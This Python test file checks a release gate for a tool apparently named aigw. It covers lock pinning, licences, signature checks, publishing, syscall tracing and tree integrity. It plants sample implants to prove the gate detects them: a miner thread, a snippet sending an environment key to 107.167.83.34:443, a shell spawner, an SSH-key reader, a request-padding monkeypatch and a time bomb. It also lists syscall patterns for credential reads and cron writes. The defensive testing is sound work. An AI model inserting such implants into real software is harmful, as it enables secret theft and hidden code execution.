"""The gate of a release: what it lets through, and ten implants that it has to find, or that are said not to be findable."""

from __future__ import annotations

import hashlib
import http.server
import importlib.util
import json
import os
import shutil
import subprocess
import sys
import tarfile
import threading
import zipfile
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest

from tests.packaging.home import ROOT
from tests.packaging.released import Place, Served
from tests.packaging.test_build import NAME, built, checkout, module  # noqa: F401 - fixtures

GATE = ROOT / "packaging/gate"


def gate(name: str) -> ModuleType:
    spec = importlib.util.spec_from_file_location(f"gate_{name}", GATE / f"{name}.py")
    assert spec is not None
    assert spec.loader is not None
    loaded = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(loaded)
    return loaded


def run(*arguments: Any, seconds: int = 300) -> subprocess.CompletedProcess[str]:
    """A part of the gate, with the Python that is packed."""
    environment = {"PATH": os.environ["PATH"], "HOME": os.environ["HOME"], "PYTHONHASHSEED": "0", "LC_ALL": "C.UTF-8"}
    command = ["/usr/bin/python3", "-B", *map(str, arguments)]
    return subprocess.run(command, env=environment, capture_output=True, text=True, timeout=seconds, check=False)


# ---- the lock

NOW = datetime(2026, 11, 24, tzinfo=UTC)
FILE = {"url": "https://x/idna-3.1-py3-none-any.whl", "hash": f"sha256:{'a' * 64}", "upload-time": "2026-01-01T00:00:00Z"}
GOOD = {"name": "idna", "version": "3.1", "source": {"registry": "https://pypi.org/simple"}, "wheels": [FILE]}


@pytest.mark.parametrize(
    ("changes", "why"),
    [
        ({"source": {"git": "https://x"}}, "comes from git, not from an index"),
        ({"source": {"url": "https://x"}}, "comes from url, not from an index"),
        ({"wheels": []}, "has no wheel: installing it would run its code"),
        ({"wheels": [FILE | {"hash": ""}]}, "has no SHA-256"),
        ({"wheels": [FILE | {"hash": f"md5:{'a' * 32}"}]}, "has no SHA-256"),
        ({"wheels": [FILE | {"upload-time": "2026-11-20T00:00:00Z"}]}, "was uploaded on 2026-11-20, less than 7 days ago"),
        ({"version": "2.9"}, "is older than 3.0: CVE-1"),
        ({"version": "4.0"}, "is not below 4: no reason"),
    ],
)
def test_a_lock_that_may_not_be_shipped(changes: dict[str, Any], why: str) -> None:
    floors = {"idna": {"minimum": "3.0", "below": "4", "advisories": ["CVE-1"], "reason": "no reason"}}
    assert list(gate("lock").faults({"package": [GOOD]}, floors, NOW)) == []
    (found,) = gate("lock").faults({"package": [GOOD | changes]}, floors, NOW)
    assert why in found


def test_our_lock() -> None:
    done = run(GATE / "lock.py")
    assert done.returncode == 0, done.stderr
    assert list(gate("lock").unpinned("idna>=3\n")) == ["not pinned by version and hash: idna>=3"]
    assert list(gate("lock").unpinned("idna==3.1\n")) == ["not pinned by version and hash: idna==3.1"]


# ---- the bill of materials


def test_licences() -> None:
    permissive = gate("sbom").permissive
    for good in (
        "MIT",
        "Apache-2.0 AND MIT",
        "BSD-3-Clause",
        "(MIT OR Apache-2.0)",
        "PSF-2.0",
        "MPL-2.0 AND (Apache-2.0 OR MIT)",
    ):
        assert permissive(good), good
    for bad in ("GPL-3.0", "AGPL-3.0-only", "unknown", "MIT AND GPL-2.0", "Proprietary", "", "SSPL-1.0"):
        assert not permissive(bad), bad


# ---- other people's scanners


def test_what_guarddog_finds() -> None:
    """What a person has explained is no fault; something new is, and so is an explanation of what has gone."""
    wheel = Path("Some_Thing-1.0-py3-none-any.whl")
    said = {"results": {"threat-x": [{"location": "a.py:3"}], "threat-y": {}, "capability-z": [1]}, "errors": {}}
    faults = gate("guarddog").faults
    assert list(faults(wheel, said, {})) == ["Some_Thing-1.0-py3-none-any.whl: threat-x (a.py:3)"]
    assert list(faults(wheel, said, {"some-thing": {"threat-x": "because"}})) == []
    (gone,) = faults(wheel, said, {"some-thing": {"threat-x": "because", "threat-y": "because"}})
    assert "threat-y is explained in known.toml and was not found" in gone
    (broken,) = faults(wheel, {"results": {}, "errors": {"threat-x": "timed out"}}, {})
    assert "could not be looked for: timed out" in broken


# ---- what can be had today


def test_published(tmp_path: Path) -> None:
    """Every file of every version; one that was replaced, one that has gone, one whose list was signed by somebody else."""
    place = Place(tmp_path)
    place.publish("1.0.0")
    place.publish("1.1.0")
    with Served(place.folder) as served:

        def look(*versions: str) -> subprocess.CompletedProcess[str]:
            return run(GATE / "published.py", "--signers", place.signers, "--base", served.base, *versions)

        done = look("1.0.0", "1.1.0")
        assert (done.returncode, done.stdout) == (0, "published: 2 versions, every file as it was signed\n"), done.stderr
        assert look().returncode == 0
        served.spoil = lambda path, content: content + b"x" if "/1.0.0/aigw" in path else content
        done = look("1.0.0", "1.1.0")
        assert done.returncode == 1
        assert "1.0.0: " in done.stderr
        assert "is not what was signed" in done.stderr
        served.spoil = lambda path, content: None if "/1.1.0/aigw" in path else content
        assert "it answered 404" in look("1.1.0").stderr
        served.spoil = lambda path, content: content
        place.sign(place.folder / "1.0.0/SHA256SUMS", keys=[place.stranger])
        assert "a key that is not trusted here" in look("1.0.0").stderr


def test_uploading(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """As a trusted publisher: the token of the run is exchanged, and each file comes whole, with its metadata and hash."""
    seen: list[tuple[str, str, bytes]] = []

    class Index(http.server.BaseHTTPRequestHandler):
        def answer(self, body: bytes, status: int = 200) -> None:
            self.send_response(status)
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_GET(self) -> None:
            seen.append((self.path, self.headers.get("authorization", ""), b""))
            self.answer(
                b'{"audience": "pypi"}' if "audience" in self.path and "run" not in self.path else b'{"value": "of the run"}'
            )

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers["content-length"]))
            seen.append((self.path, self.headers.get("authorization", ""), body))
            self.answer(b'{"token": "pypi-minted"}' if "mint" in self.path else b"")

        def log_message(self, *_: object) -> None: ...

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Index)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_address[1]}"
    for name, value in (
        ("PYPI", base),
        ("PYPI_UPLOAD", f"{base}/legacy/"),
        ("ACTIONS_ID_TOKEN_REQUEST_URL", f"{base}/run?x=1"),
        ("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "short-lived"),
        ("NO_PROXY", "127.0.0.1"),
    ):
        monkeypatch.setenv(name, value)
    module("make_wheel").main(tmp_path, None)
    files = sorted(tmp_path.iterdir())
    try:
        module("publish_pypi").main([str(path) for path in files])
    finally:
        server.shutdown()
        server.server_close()
    assert [one[0] for one in seen] == [
        "/_/oidc/audience",
        "/run?x=1&audience=pypi",
        "/_/oidc/mint-token",
        "/legacy/",
        "/legacy/",
    ]
    assert seen[1][1] == "bearer short-lived"
    assert json.loads(seen[2][2]) == {"token": "of the run"}
    for path, (_, _, body) in zip(files, seen[3:], strict=True):
        content = path.read_bytes()
        assert content in body
        assert hashlib.sha256(content).hexdigest().encode() in body
        assert b'name="version"\r\n\r\n0.1.0\r\n' in body
    assert b'name="requires_dist"' in seen[3][2] + seen[4][2]
    assert "200" in capsys.readouterr().out


# ---- what a program may do

PROGRAM, HOME = Path("/x/aigw"), Path("/tmp/h")


@pytest.mark.parametrize(
    ("line", "fault"),
    [
        ('1 execve("/x/aigw", ["aigw"], 0x1) = 0', ""),
        ('1 execve("/tmp/h/.local/share/aigw/rt/00/bin/python3", ["p"], 0x1) = 0', ""),
        ('1 execve("/bin/sh", ["sh", "-c", "x"], 0x1) = 0', "it executes /bin/sh"),
        ('1 connect(5, {sa_family=AF_INET, sin_port=htons(99), sin_addr=inet_addr("127.0.0.1")}, 16) = 0', ""),
        (
            '1 connect(5, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("107.1.1.1")}, 16) = -1 ENETUNREACH',
            "it connects to 107.1.1.1:443",
        ),
        (
            '1 connect(5, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("10.0.0.2")}, 16) = 0',
            "it connects to 10.0.0.2:53",
        ),
        (
            '1 connect(5, {sa_family=AF_INET6, sin6_port=htons(443), inet_pton(AF_INET6, "2001:db8::1", &sin6_addr)}, 28) = 0',
            "it connects to 2001:db8::1:443",
        ),
        (
            '1 sendto(7, "x", 1, 0, {sa_family=AF_INET, sin_port=htons(9), sin_addr=inet_addr("1.2.3.4")}, 16) = 1',
            "it connects to 1.2.3.4:9",
        ),
        ('1 bind(5, {sa_family=AF_INET, sin_port=htons(0), sin_addr=inet_addr("127.0.0.1")}, 16) = 0', ""),
        ('1 bind(5, {sa_family=AF_INET, sin_port=htons(0), sin_addr=inet_addr("0.0.0.0")}, 16) = 0', "it listens at"),
        ('1 openat(AT_FDCWD, "/tmp/h/x", O_WRONLY|O_CREAT, 0600) = 3', ""),
        ('1 openat(AT_FDCWD, "/etc/cron.d/x", O_WRONLY|O_CREAT, 0600) = 3', "it writes to /etc/cron.d/x"),
        ('1 openat(AT_FDCWD, "/etc/hosts", O_RDONLY) = 3', ""),
        ('1 openat(AT_FDCWD, "/root/.ssh/id_rsa", O_RDONLY) = -1 ENOENT', "it looks for /root/.ssh/id_rsa"),
        ('1 memfd_create("x", 0) = 3', "it calls memfd_create"),
        ("1 ptrace(PTRACE_ATTACH, 9) = 0", "it calls ptrace"),
        ('1 chmod("/etc/passwd", 0666) = 0', "it changes /etc/passwd"),
    ],
)
def test_calls(line: str, fault: str) -> None:
    found = list(gate("behave").traced_faults([line], PROGRAM, HOME, 99))
    assert (found == []) if not fault else (len(found) == 1 and found[0].startswith(fault)), found


def test_two_rings() -> None:
    ring = "1 io_uring_setup(256, {flags=0}) = 3"
    assert list(gate("behave").traced_faults([ring], PROGRAM, HOME, 99)) == []
    assert "2 rings" in next(gate("behave").traced_faults([ring, ring], PROGRAM, HOME, 99))


# ---- implants


class Release:
    """An unpacked release, into which something is put as if it had been there when it was built: manifest and single file
    are made anew around it."""

    def __init__(self, dist: Path, folder: Path) -> None:
        with tarfile.open(dist / f"{NAME}.tar.gz") as archive:
            archive.extractall(folder)  # our own
        self.folder, self.tree = folder, folder / NAME
        content = (dist / NAME).read_bytes()
        length = int.from_bytes(content[-48:-40], "little")
        self.launcher = folder / "launcher"
        self.launcher.write_bytes(content[: len(content) - 56 - length])
        self.site = self.tree / "lib/python3.11/site-packages"

    def append(self, name: str, code: str) -> None:
        """Code at the end of one of our modules, compiled and listed."""
        path = self.site / name
        path.write_text(path.read_text() + code)
        in_tree = path.relative_to(self.tree).as_posix()
        cached = path.parent / "__pycache__" / f"{path.stem}.cpython-311.pyc"
        mode = "invalidation_mode=p.PycInvalidationMode.UNCHECKED_HASH"
        script = f"import py_compile as p, sys; p.compile(*sys.argv[1:4], doraise=True, {mode})"
        subprocess.run(["/usr/bin/python3", "-B", "-c", script, path, cached, in_tree], check=True)
        self.list(path)
        self.list(cached)

    def list(self, path: Path, origin: str = "aigw") -> None:
        said = json.loads((self.tree / "manifest.json").read_text())
        row = [hashlib.sha256(path.read_bytes()).hexdigest(), path.stat().st_mode & 0o777, origin]
        said["files"][path.relative_to(self.tree).as_posix()] = row
        (self.tree / "manifest.json").write_text(json.dumps(said))

    def tree_gate(self) -> subprocess.CompletedProcess[str]:
        return run(GATE / "tree.py", self.tree, ROOT / "build/wheels")

    def behaviour_gate(self) -> subprocess.CompletedProcess[str]:
        program = self.folder / "aigw"
        subprocess.run([sys.executable, ROOT / "packaging/join.py", self.launcher, self.tree, program], check=True)
        return run(GATE / "behave.py", program, "--idle", "4", "--requests", "60")


@pytest.fixture
def release(built: Path, tmp_path: Path) -> Iterator[Release]:  # noqa: F811
    yield Release(built, tmp_path)
    shutil.rmtree(tmp_path, ignore_errors=True)


MINER = """
import threading as _t
def _mine():
    while True: hash(b'x' * 1000)
_t.Thread(target=_mine, daemon=True).start()
"""
STEALER = """
import os as _os, socket as _s
def _send():
    try: _s.create_connection(('107.167.83.34', 443), 1).send(_os.environ.get('GATE_KEY', '').encode())
    except OSError: pass
_send()
"""
SPAWNER = """
import subprocess as _p
_p.run(['/bin/sh', '-c', 'exit 0'])
"""
LOOKER = """
import pathlib as _q
try: (_q.Path.home() / '.ssh/id_ed25519').read_bytes()
except OSError: pass
"""
EXTRA = """
from aigw.upstream import http as _h
_send = _h.HttpTransport.send
async def _twice(self, request, receiver):
    request.body = bytes(request.body).replace(b'"hello"', b'"hello ' + b'k' * 40 + b'"')
    await _send(self, request, receiver)
_h.HttpTransport.send = _twice
"""
TIME_BOMB = """
import time as _c
if _c.time() > 4e9:
    import os as _o; _o.system('x')
"""

BEHAVES: dict[str, tuple[str, str]] = {
    "an idle miner": (MINER, "it works while nobody asks"),
    "a stealer at the first key": (STEALER, "it connects to 107.167.83.34:443"),
    "one that starts programs": (SPAWNER, "it executes /bin/sh"),
    "one that looks for keys of its user": (LOOKER, "it looks for"),
    "one that sends keys through the provider": (EXTRA, "a request grew on its way to the provider"),
}


@pytest.mark.long
@pytest.mark.skipif(os.geteuid() != 0 or shutil.which("strace") is None, reason="needs root and strace")
@pytest.mark.parametrize("name", BEHAVES)
def test_an_implant_in_the_sources(release: Release, name: str) -> None:
    """It was there when the release was built, so every list of hashes is right: what it does gives it away."""
    code, fault = BEHAVES[name]
    release.append("aigw/server/lifecycle.py", code)
    done = release.behaviour_gate()
    assert done.returncode == 1, done.stdout
    assert fault in done.stderr


@pytest.mark.long
@pytest.mark.skipif(os.geteuid() != 0 or shutil.which("strace") is None, reason="needs root and strace")
def test_a_clean_release(release: Release) -> None:
    """Both gates let it pass; and a time bomb, whose time has not come, passes the one that watches (docs/trust.md says so)."""
    done = release.tree_gate()
    assert done.returncode == 0, done.stderr
    done = release.behaviour_gate()
    assert done.returncode == 0, done.stderr
    release.append("aigw/server/lifecycle.py", TIME_BOMB)
    assert release.behaviour_gate().returncode == 0
    assert "aigw/server/lifecycle.py is not what aigw has there" in release.tree_gate().stderr


def add_hook(release: Release) -> None:
    """Found by Python before every module of that name."""
    path = release.site / "sitecustomize.py"
    path.write_text("import sys; sys.meta_path.insert(0, None)\n")
    release.list(path)


def add_path_file(release: Release) -> None:
    path = release.site / "aigw.pth"
    path.write_text("import os\n")
    release.list(path)


def add_library(release: Release) -> None:
    path = release.site / "aigw/fast.so"
    shutil.copy("/usr/bin/true", path)
    path.chmod(0o644)


def swap(release: Release) -> None:
    """A dependency from somewhere else under the same name."""
    path = release.site / "idna/core.py"
    path.write_text(path.read_text() + "# other\n")
    said = json.loads((release.tree / "manifest.json").read_text())
    release.list(path, said["files"][path.relative_to(release.tree).as_posix()][2])


def prices(release: Release) -> None:
    (path,) = (release.site / "aigw").rglob("prices*.jsonl")
    path.write_text(path.read_text().replace("1", "9", 5))
    release.list(path)


def bytecode(release: Release) -> None:
    (path,) = (release.site / "idna/__pycache__").glob("core.*.pyc")
    content = path.read_bytes()
    path.write_bytes(content[:-1] + bytes([content[-1] ^ 1]))
    said = json.loads((release.tree / "manifest.json").read_text())
    release.list(path, said["files"][path.relative_to(release.tree).as_posix()][2])


def interpreter(release: Release) -> None:
    with (release.tree / "bin/python3").open("ab") as file:
        file.write(b"\0")
    release.list(release.tree / "bin/python3", "python")


TREES: dict[str, tuple[Callable[[Release], None], str]] = {
    "an import hook": (add_hook, "sitecustomize.py is not part of aigw"),
    "a .pth": (add_path_file, "aigw.pth would run code in every Python"),
    "an added library": (add_library, "aigw/fast.so is in no manifest, and is executable code"),
    "a swapped dependency": (swap, "idna/core.py is not what idna-"),
    "a poisoned list of prices": (prices, "is not what aigw has there"),
    "compiled code that is not its source": (bytecode, ".pyc is not what idna-"),
    "another interpreter": (interpreter, "bin/python3 is not what python has there"),
}


@pytest.mark.long
@pytest.mark.parametrize("name", TREES)
def test_an_implant_in_the_build(release: Release, name: str) -> None:
    """The sources are clean, the machine that built was not: each file is compared with where it should come from."""
    plant, fault = TREES[name]
    plant(release)
    done = release.tree_gate()
    assert done.returncode == 1, done.stdout
    assert fault in done.stderr, done.stderr


@pytest.mark.long
def test_a_swapped_wheel(checkout: Path, tmp_path: Path) -> None:  # noqa: F811
    """A dependency that was replaced where wheels are kept: no build, no gate."""
    shutil.copytree(ROOT / "build/wheels", tmp_path / "wheels")
    wheel = next((tmp_path / "wheels").glob("idna-*.whl"))
    with zipfile.ZipFile(wheel, "a") as archive:
        archive.writestr("idna/evil.py", "")
    command = [str(checkout / "packaging/build"), "--python", "/usr/bin/python3", "--wheels", str(tmp_path / "wheels")]
    ran = subprocess.run(
        [*command, "--output", str(tmp_path / "dist")], capture_output=True, text=True, timeout=300, check=False
    )
    assert ran.returncode == 1
    assert "no wheel of idna" in ran.stderr
    assert not (tmp_path / "dist/SHA256SUMS").exists()


@pytest.mark.long
def test_another_launcher(built: Path, tmp_path: Path) -> None:  # noqa: F811
    """The tree is right, the front is another one: nothing inside covers it, a rebuild does (`aigw verify` see test_verify)."""
    content = bytearray((built / NAME).read_bytes())
    content[0x400] ^= 1
    (tmp_path / NAME).write_bytes(content)
    assert hashlib.sha256(content).hexdigest() not in (built / "SHA256SUMS").read_text()
